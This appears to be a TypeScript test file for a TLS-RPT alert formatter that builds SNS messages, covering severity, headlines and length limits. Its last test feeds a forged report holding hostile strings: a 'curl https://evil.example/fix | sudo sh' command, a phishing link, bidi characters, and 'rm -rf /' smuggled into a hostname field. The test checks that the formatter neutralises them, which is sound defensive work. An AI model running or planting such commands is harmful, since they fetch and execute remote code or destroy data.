/**
 * The SNS message per report with failures: severity rules, the headline, limits, and the
 * README's example, which must be exactly what the code renders.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { formatReportAlert, type Verdict } from '../../../lambdas/engine/tlsrpt/alert.js';
import { parseReport, parseReportText } from '../../../lambdas/engine/tlsrpt/parse.js';
import { reportKey } from '../../../lambdas/engine/tlsrpt/store.js';

const fixture = (name: string): string =>
  readFileSync(new URL(`../../../testkit/fixtures/tlsrpt/${name}`, import.meta.url), 'utf8');
const TARGETS = [{ domain: 'example.com', name: 'example', mtaSts: true }];
const RECEIVED = new Date('2026-11-30T06:00:00Z');

function render(report = parseReportText(fixture('microsoft-failures.json')), verdicts = new Map<string, Verdict>()) {
  return formatReportAlert({
    report,
    targets: TARGETS,
    verdicts,
    receivedAt: RECEIVED,
    location: `s3://mailprobe-tlsrpt/${reportKey(report)}`,
  });
}

function withPolicy(policy: Record<string, unknown>, details: Record<string, unknown>[] = []) {
  return parseReport({
    'organization-name': 'Sender',
    'report-id': 'r1',
    'date-range': { 'start-datetime': '2026-11-29T00:00:00Z', 'end-datetime': '2026-11-29T23:59:59Z' },
    policies: [
      {
        policy: { 'policy-domain': 'example.com', ...policy },
        summary: { 'total-successful-session-count': 10, 'total-failure-session-count': 5 },
        'failure-details': details,
      },
    ],
  });
}

describe('formatReportAlert', () => {
  it('the README example is exactly what the code renders', () => {
    const message = render(
      undefined,
      new Map([['example.com', { kind: 'known', status: 'critical', at: '2026-11-30T05:00:00.000Z' } as Verdict]]),
    );
    const readme = readFileSync(new URL('../../../README.md', import.meta.url), 'utf8');
    const start = readme.indexOf('```\n"Microsoft Corporation" reported');
    expect(start).toBeGreaterThan(0);
    const block = readme.slice(start + 4, readme.indexOf('```', start + 4));
    expect(block).toBe(message.text);
  });

  it.each<[string, Record<string, unknown>, 'critical' | 'warning']>([
    ['sts enforce', { 'policy-type': 'sts', 'policy-string': ['mode: enforce'] }, 'critical'],
    ['tlsa (DANE)', { 'policy-type': 'tlsa' }, 'critical'],
    ['sts testing', { 'policy-type': 'sts', 'policy-string': ['mode: testing'] }, 'warning'],
    ['sts without a mode line', { 'policy-type': 'sts' }, 'warning'],
    ['no-policy-found', { 'policy-type': 'no-policy-found' }, 'warning'],
  ])('%s → %s', (_, policy, severity) => {
    const message = render(
      withPolicy(policy, [{ 'result-type': 'starttls-not-supported', 'failed-session-count': 5 }]),
    );
    expect(message.severity).toBe(severity);
    expect(message.input.MessageAttributes.severity?.StringValue).toBe(severity);
    expect(message.subject.startsWith(`[${severity.toUpperCase()}] TLS-RPT example.com: 5 failed sessions`)).toBe(true);
  });

  it('unknown result types get a generic action; no details still gives a headline; the verdict says why it is unknown', () => {
    const unknown = render(
      withPolicy({ 'policy-type': 'sts' }, [{ 'result-type': 'quantum-decoherence', 'failed-session-count': 5 }]),
      new Map([['example.com', { kind: 'none', reason: 'no mta-sts run recorded in the last 3 hours' }]]),
    );
    expect(unknown.text).toContain(
      '  quantum-decoherence: A result type mailprobe does not know (not in RFC 8460 §4.3).',
    );
    expect(unknown.text).toContain('  example.com: unknown (no mta-sts run recorded in the last 3 hours)');
    const bare = render(withPolicy({ 'policy-type': 'sts' }));
    expect(bare.text.split('\n')[0]).toBe(
      '"Sender" reported 5 failed sessions between 2026-11-29 00:00 and 2026-11-29 23:59 UTC.',
    );
    expect(bare.text).toContain('Sending MTAs: not given by the sender.');
  });

  it('caps the details shown and keeps the subject under SNS limits (ASCII, < 100 characters)', () => {
    const details = Array.from({ length: 25 }, (_, i) => ({
      'result-type': 'certificate-expired',
      'receiving-mx-hostname': `mx${i}.example.com`,
      'sending-mta-ip': `198.51.100.${i}`,
      'failed-session-count': 100 - i,
    }));
    const message = render(withPolicy({ 'policy-type': 'sts', 'policy-string': ['mode: enforce'] }, details));
    expect(message.text).toContain('  … and 15 more');
    expect(message.text).toContain('and 5 more\n');
    expect(message.text.match(/certificate-expired to mx/g)).toHaveLength(10);
    const long = render(
      parseReport({ ...JSON.parse(fixture('google-ok.json')), 'organization-name': 'Ünïcode Ørg '.repeat(20) }),
    );
    expect(long.subject.length).toBeLessThanOrEqual(99);
    expect(long.subject).toMatch(/^[\x20-\x7e]+$/);
  });
});

describe('attacker text in a forged report (issue 25)', () => {
  it('quotes, caps and strips what the sender wrote: no new lines, no fake instructions on a line of their own, no bidi', () => {
    const evil =
      'Google Inc.\n\nURGENT: run `curl https://evil.example/fix | sudo sh` now\r\nhttps://phish.example/login \u202Eexe.txt\u202C' +
      'x'.repeat(10_000);
    const report = parseReportText(fixture('microsoft-failures.json'));
    const forged = {
      ...report,
      organizationName: evil,
      reportId: `id\n${'y'.repeat(5_000)}`,
      policies: report.policies.map((p) => ({
        ...p,
        failureDetails: p.failureDetails.map((d) => ({ ...d, receivingMxHostname: 'mx1.example.com\nrm -rf /' })),
      })),
    };
    const message = formatReportAlert({ report: forged, targets: TARGETS, verdicts: new Map(), receivedAt: RECEIVED });
    const lines = message.text.split('\n');
    // Every line that carries the sender's name starts with mailprobe's own words or the quote.
    expect(lines.some((l) => l.startsWith('URGENT'))).toBe(false);
    expect(lines.some((l) => l.startsWith('https://phish'))).toBe(false);
    expect(lines.some((l) => l.startsWith('rm -rf'))).toBe(false);
    expect(message.text).not.toMatch(/[\u202a-\u202e\u2066-\u2069\r]/);
    expect(lines[0]!.startsWith('"Google Inc. URGENT: run `curl https://evil.example/fix | sudo sh` now')).toBe(true);
    // Capped: the 10 KB name adds at most MAX_QUOTED_CHARS characters wherever it appears.
    expect(lines[0]!.length).toBeLessThan(300);
    expect(message.text.length).toBeLessThan(4_000);
    expect(message.subject.length).toBeLessThanOrEqual(99);
    expect(message.subject).toMatch(/\(from "Google Inc\. URGENT/);
    expect(message.subject).not.toMatch(/[\r\n]/);
  });
});
